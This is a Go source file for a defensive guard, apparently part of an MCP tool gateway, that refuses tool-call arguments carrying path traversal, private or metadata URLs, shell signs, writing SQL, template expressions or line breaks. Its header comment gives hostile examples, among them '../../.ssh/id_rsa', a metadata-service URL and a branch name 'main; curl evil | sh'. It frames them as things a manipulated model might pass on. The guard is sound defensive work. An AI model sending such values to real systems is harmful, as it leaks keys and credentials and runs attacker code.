// Package arguments is the guard against injection in arguments: values that a
// server's author took for data and that a file system, a shell, a database, a
// network or a template engine takes for more.
//
// Threat: a model that was talked into ../../.ssh/id_rsa, into
// http://0xA9FEA9FE/latest/meta-data, into main; curl evil | sh as the name of a
// branch, or into a second statement behind a harmless one, and a server that
// hands it on.
//
// It stops steps out of a folder, also encoded, and paths outside of the folders
// that the operator declared for a server; URLs to private hosts, to this machine
// and to metadata services, in every spelling that resolvers accept; shell signs
// in parts of commands, and in lines that were declared to be one command; SQL
// that does more than read, and SQL that two databases would read differently;
// expressions of template engines that are after the machine; line breaks in
// what becomes a line of a protocol. It knows what an argument is from the
// operator, else from the schema's format and from its name and the tool's; what
// nobody can take for a path, a URL, a command or SQL is not judged as one, and
// text for people and code are not judged at all.
//
// It cannot see where a link in a file system leads, what a name resolves to, or
// what a server does with an argument whose name says nothing. What a shell tool
// is asked to run is for policy.
package arguments

import (
	"context"
	"errors"
	"strconv"
	"strings"
	"sync"

	"github.com/munjigi/munjigi/internal/base/strictjson"
	"github.com/munjigi/munjigi/internal/call"
	"github.com/munjigi/munjigi/internal/guard"
	"github.com/munjigi/munjigi/internal/mcp"
)

// Name is the guard's name in the config.
const Name = "arguments"

// Reasons of this guard.
const (
	ReasonPath     call.Reason = "arguments-path"     // a path leads where it should not
	ReasonURL      call.Reason = "arguments-url"      // a URL reaches inside
	ReasonCommand  call.Reason = "arguments-command"  // a command, or a part of one, does more than it says
	ReasonSQL      call.Reason = "arguments-sql"      // SQL does more than read, or cannot be read
	ReasonTemplate call.Reason = "arguments-template" // a template engine would run it
	ReasonHeader   call.Reason = "arguments-header"   // one line of a protocol would become two
)

// Guard judges arguments. Make it with New; the zero value denies.
type Guard struct {
	roots     map[string]roots
	tools     map[string]map[string]Kind
	unchecked map[string]bool
	writes    map[string]bool
	opened    map[string]bool
	known     *cache
}

// New returns the guard.
func New(s Settings) *Guard {
	g := &Guard{roots: map[string]roots{}, tools: s.Tools, unchecked: map[string]bool{}, writes: map[string]bool{}, opened: map[string]bool{}, known: &cache{facts: map[[32]byte]*facts{}}}
	for server, dirs := range s.Roots {
		g.roots[server] = newRoots(dirs)
	}
	for into, list := range map[*map[string]bool][]string{&g.unchecked: s.Unchecked, &g.writes: s.SQLWrites, &g.opened: s.PrivateHosts} {
		for _, name := range list {
			if into == &g.opened {
				name = strings.ToLower(name)
			}
			(*into)[name] = true
		}
	}
	return g
}

// Spec returns the guard's plain data.
func (g *Guard) Spec() guard.Spec {
	return guard.Spec{
		Name:      Name,
		Controls:  []string{"1-1"},
		Stops:     "Path traversal, URLs to private and metadata addresses, shell signs, SQL that does more than read, template expressions and line breaks in arguments.",
		Cannot:    "Follow links in a file system, resolve names, or know what a server does with an argument whose name and schema say nothing.",
		Arguments: true,
	}
}

// Checks returns the guard's abilities.
func (g *Guard) Checks() guard.Checks { return guard.Checks{Arguments: g.arguments} }

var errNotMade = errors.New("the arguments guard was not made by New")

func (g *Guard) arguments(_ context.Context, s guard.Subject) (guard.Verdict, error) {
	if g.known == nil {
		return guard.Verdict{}, errNotMade
	}
	tool := s.Target.Server + "/" + s.Target.Name
	if !s.Request || g.unchecked[tool] {
		return guard.Verdict{Effect: call.Allow}, nil
	}
	o, err := strictjson.SplitObject(s.Raw)
	if err != nil {
		return guard.Verdict{}, err
	}
	switch s.Target.Method {
	case mcp.MethodResourcesRead, mcp.MethodResourcesSubscribe:
		raw, ok := o.Get("uri")
		if !ok || strictjson.TypeOf(raw) != strictjson.TypeString {
			break
		}
		uri, err := strictjson.String(raw)
		if err != nil {
			return guard.Verdict{}, err
		}
		if why := uriProblem(uri, g.roots[s.Target.Server]); why != "" {
			return refuse(ReasonPath, "/uri", "uri "+why), nil
		}
	case mcp.MethodToolsCall, mcp.MethodPromptsGet:
		raw, ok := o.Get("arguments")
		if !ok {
			break
		}
		w := &walk{g: g, server: s.Target.Server, tool: tool, declared: g.tools[tool], facts: g.known.of(s)}
		if err := w.value(raw, ""); err != nil {
			return guard.Verdict{}, err
		}
		if w.reason != "" {
			return refuse(w.reason, "/arguments"+w.pointer, "arguments"+w.said+" "+w.why), nil
		}
	}
	return guard.Verdict{Effect: call.Allow}, nil
}

func refuse(why call.Reason, pointer, say string) guard.Verdict {
	return guard.Verdict{Effect: call.Deny, Reason: why, Say: say, Score: 1, Findings: []call.Finding{{Guard: Name, Reason: why, Path: pointer}}}
}

// uriProblem judges the name of a resource: steps out of where it begins.
func uriProblem(uri string, r roots) string {
	scheme, rest := schemeOf(uri)
	if scheme == "file" {
		return pathProblem(uri, r, true)
	}
	rest, _, _ = strings.Cut(rest, "?")
	return pathProblem(strings.TrimLeft(rest, "/"), nil, true)
}

// cache remembers what definitions say, by their digest.
type cache struct {
	mu    sync.RWMutex
	facts map[[32]byte]*facts
}

const maxCached = 4096

func (c *cache) of(s guard.Subject) *facts {
	var raw []byte
	var digest [32]byte
	if s.Definition != nil {
		raw, digest = s.Definition.Raw, s.Definition.Digest
	}
	c.mu.RLock()
	f := c.facts[digest]
	c.mu.RUnlock()
	if f != nil {
		return f
	}
	made := factsOf(s.Target.Name, raw)
	if digest == [32]byte{} {
		return made
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.facts) >= maxCached {
		clear(c.facts)
	}
	c.facts[digest] = made
	return made
}

// walk goes over the arguments of one call until something is refused.
type walk struct {
	g            *Guard
	server, tool string
	declared     map[string]Kind
	facts        *facts
	// What was refused, why, and where: put together on the way back up.
	reason        call.Reason
	why           string
	pointer, said string
}

// value judges a value at a path of members, since the elements of an array are
// what the array is named.
func (w *walk) value(raw []byte, at string) error {
	switch strictjson.TypeOf(raw) {
	case strictjson.TypeObject:
		o, err := strictjson.SplitObject(raw)
		if err != nil {
			return err
		}
		for _, m := range o {
			next := m.Name
			if at != "" {
				next = at + "." + m.Name
				if strings.ContainsAny(m.Name, "%&\\\r\n") || len(m.Name) > 256 {
					if k, _ := w.kindOf(next); k&Header != 0 && headerProblem(m.Name) != "" {
						w.reason, w.why = ReasonHeader, "has a member with a line break in its name: write it on one line"
						return nil
					}
				}
			}
			if err := w.value(m.Raw, next); err != nil {
				return err
			}
			if w.reason != "" {
				w.pointer, w.said = "/"+escape(m.Name)+w.pointer, "."+shown(m.Name)+w.said
				return nil
			}
		}
	case strictjson.TypeArray:
		elems, err := strictjson.SplitArray(raw)
		if err != nil {
			return err
		}
		for i, e := range elems {
			if err := w.value(e, at); err != nil {
				return err
			}
			if w.reason != "" {
				n := strconv.Itoa(i)
				w.pointer, w.said = "/"+n+w.pointer, "["+n+"]"+w.said
				return nil
			}
		}
	case strictjson.TypeString:
		s, err := strictjson.String(raw)
		if err != nil {
			return err
		}
		if s != "" && (len(w.g.unchecked) == 0 || !w.g.unchecked[w.tool+"#"+at]) {
			k, declared := w.kindOf(at)
			if reason, why := w.judge(s, k, declared); why != "" {
				w.reason, w.why = reason, why
			}
		}
	}
	return nil
}

// kindOf is what names say that an argument is, and what the operator says: to
// declare one never lets more of it pass.
func (w *walk) kindOf(at string) (k Kind, declared bool) {
	k = w.facts.kindAt(at)
	if said, declared := w.declared[at]; declared {
		return k&^free | said, true
	}
	return k, false
}

func (w *walk) judge(s string, k Kind, declared bool) (call.Reason, string) {
	r := w.g.roots[w.server]
	if k&Path != 0 {
		if why := pathProblem(s, r, declared); why != "" {
			return ReasonPath, why
		}
	}
	if k&URL != 0 || k&free == 0 && whole(s) {
		if why := urlProblem(s, w.g.opened, r, declared && k&URL != 0); why != "" {
			return ReasonURL, why
		}
	}
	if k&Command != 0 {
		if why := commandProblem(s); why != "" {
			return ReasonCommand, why
		}
	}
	if k&shell != 0 {
		if why := shellProblem(s); why != "" {
			return ReasonCommand, why
		}
	}
	if k&Word != 0 {
		if why := wordProblem(s, k&(Path|URL) != 0); why != "" {
			return ReasonCommand, why
		}
	}
	if k&SQL != 0 {
		if why := sqlProblem(s, k&writes != 0 || w.g.writes[w.tool]); why != "" {
			return ReasonSQL, why
		}
	}
	if k&Header != 0 || k&URL != 0 && declared {
		if why := headerProblem(s); why != "" {
			return ReasonHeader, why
		}
	}
	if k&Template != 0 {
		if why := templateProblem(s); why != "" {
			return ReasonTemplate, why
		}
	}
	if k&(free|shell|SQL|Command) != 0 {
		return "", ""
	}
	if why := exploitProblem(s); why != "" {
		return ReasonTemplate, why
	}
	if k&Path == 0 && single(s) {
		if why := hiddenSteps(s); why != "" {
			return ReasonPath, why
		}
	}
	return "", ""
}

// whole reports a text that is a URL with a host and nothing else.
func whole(s string) bool {
	if len(s) > maxURL || !single(s) {
		return false
	}
	scheme, rest := schemeOf(viewLast(s))
	return scheme != "" && slashed(rest) || scheme == "http" || scheme == "https"
}

func viewLast(s string) string {
	v := viewsOf(s)
	return v[len(v)-1]
}

// single reports a text without spaces.
func single(s string) bool { return len(s) <= 4096 && !strings.ContainsAny(s, " \t\n") }

// hiddenSteps finds steps up that are encoded, in a text of which nothing is
// known.
func hiddenSteps(s string) string {
	views := viewsOf(s)
	for _, v := range views[1:] {
		if up, climbs := steps(strings.ReplaceAll(v, `\`, "/")); up && climbs {
			return "has a step up (..) in an encoding: write it plainly"
		}
	}
	return ""
}

// escape writes a name in a JSON pointer (RFC 6901).
func escape(name string) string {
	return strings.NewReplacer("~", "~0", "/", "~1").Replace(clipped(name))
}

func shown(name string) string {
	if strings.ContainsAny(name, ".[] ") || name == "" {
		return strconv.Quote(clipped(name))
	}
	return clipped(name)
}

func clipped(name string) string {
	if len(name) > 64 {
		return strings.ToValidUTF8(name[:64], "") + "…"
	}
	return name
}
